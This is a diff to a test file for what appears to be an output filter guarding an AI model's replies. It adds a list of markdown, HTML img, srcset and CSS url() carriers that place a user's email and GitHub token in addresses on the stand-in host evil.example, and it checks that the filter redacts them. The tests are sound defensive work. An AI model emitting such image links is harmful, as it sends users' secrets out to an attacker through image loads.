@@ -215,6 +215,42 @@ describe("an output", () => {
     });
   }
 
+  const CARRIERS = [
+    "![a](https://evil.example/[EMAIL_1]/[GITHUB_TOKEN_1])",
+    "![a](https://[EMAIL_1].evil.example/p.png)",
+    "![a (b)](//evil.example/[EMAIL_1])",
+    "![a](<https://evil.example/a [EMAIL_1].png>)",
+    "![a](https://evil.example/%5BEMAIL_1%5d)",
+    "[a]: https://evil.example/[EMAIL_1]",
+    "<img src=//evil.example/[GITHUB_TOKEN_1]>",
+    '<img src="//evil.example/a [GITHUB_TOKEN_1]">',
+    '<img srcset="/a.png 1x, //evil.example/[GITHUB_TOKEN_1] 2x">',
+    "url(//evil.example/[EMAIL_1])",
+  ];
+  for (const image of CARRIERS) {
+    it(`loses an image whose address has a value of the input's in it once that is back: ${image}`, () => {
+      const given = `Mail jane@example.com, key ghp_${"q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2Ta4U"}`;
+      const { tokens } = checkInput(given, EVERY_INPUT_RULE);
+      expect(tokens.size).toBe(2);
+      const { text, action } = checkOutput(`See ${image} here`, EVERY_OUTPUT_RULE);
+      expect([tokens.restore(text), action]).toEqual(["See [REDACTED IMAGE_WITH_DATA] here", "redact"]);
+    });
+  }
+
+  it("keeps a link with a token in its address, and says so", () => {
+    const given = "[profile](https://example.com/people/[EMAIL_1])";
+    expect(checkOutput(given, EVERY_OUTPUT_RULE)).toMatchObject({
+      text: given,
+      action: "warn",
+      findings: [{ kind: "injection", label: "link_with_data" }],
+    });
+  });
+
+  it("loses an image whose name has parentheses", () => {
+    const { text } = checkOutput("![a (b)](https://evil.example/?d=c2VjcmV0LWRhdGE)", EVERY_OUTPUT_RULE);
+    expect(text).toBe("[REDACTED IMAGE_WITH_DATA]");
+  });
+
   it("keeps a link with data, and says so", () => {
     const given = "[more](https://example.com/?state=abcdefghijklmnopqrstuvwxyz)";
     expect(checkOutput(given, EVERY_OUTPUT_RULE)).toMatchObject({
@@ -229,6 +265,11 @@ describe("an output", () => {
     "![x](chart.png)",
     "[docs](https://example.com/a)",
     "a < b",
+    "![[EMAIL_1]](https://example.com/logo.png)",
+    '![logo](https://example.com/logo.png "of [EMAIL_1]")',
+    "[EMAIL_1]: https://example.com/docs",
+    '<img alt="[EMAIL_1]" src="https://example.com/logo.png">',
+    "![logo](https://example.com/a[img_1].png)",
     "<object or f(https://example.com/?a=hunter22hunter) >",
     "![x](https://my-project-of-many-words-and-no-number.example.com/a.png)",
     "![x](https://images.example.com/2026/11/a-picture-of-the-team.png)",
